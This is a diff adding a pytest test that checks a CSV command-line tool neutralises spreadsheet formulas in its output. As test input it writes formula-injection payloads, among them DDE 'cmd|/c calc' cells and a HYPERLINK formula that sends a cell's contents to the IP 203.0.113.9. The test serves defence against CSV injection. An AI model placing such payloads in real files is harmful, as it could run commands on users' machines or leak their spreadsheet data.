@@ -95,3 +95,22 @@ def test_unknown_default_country_is_refused(cache_env, tmp_path):
     done = run_cli(cache_env, source, "-o", tmp_path / "out.csv", "--place-column", "place",
                    "--country", "Atlantis")
     assert done.returncode != 0 and "Unknown country 'Atlantis'" in done.stderr
+
+
+def test_the_output_neutralises_spreadsheet_formulas(cache_env, tmp_path):
+    source = tmp_path / "formulas.csv"
+    source.write_text('place,note,=cmd|"/c calc"!A0\n'
+                      'Odesa,"=HYPERLINK(""http://203.0.113.9/?x=""&A1,""click"")",x\n'
+                      '@SUM(1+1)*cmd|\' /C calc\'!A0,+1+1,-2+3\n'
+                      'Kyiv,-33.4,\tab\n', encoding="utf-8")
+    target = tmp_path / "out.csv"
+    done = run_cli(cache_env, source, "-o", target, "--place-column", "place")
+    assert done.returncode == 0, done.stderr
+    out = pd.read_csv(target, dtype=str, keep_default_na=False)
+    assert out.columns[2] == "'=cmd|\"/c calc\"!A0"
+    assert out["note"].tolist()[:2] == ["'=HYPERLINK(\"http://203.0.113.9/?x=\"&A1,\"click\")",
+                                       "'+1+1"]
+    assert out["place"][1].startswith("'@SUM")
+    assert out["note"][2] == "-33.4"  # a plain number stays a number
+    for cell in out.to_numpy().ravel():
+        assert not cell or cell[0] not in "=+@\t" or cell.startswith("'"), cell
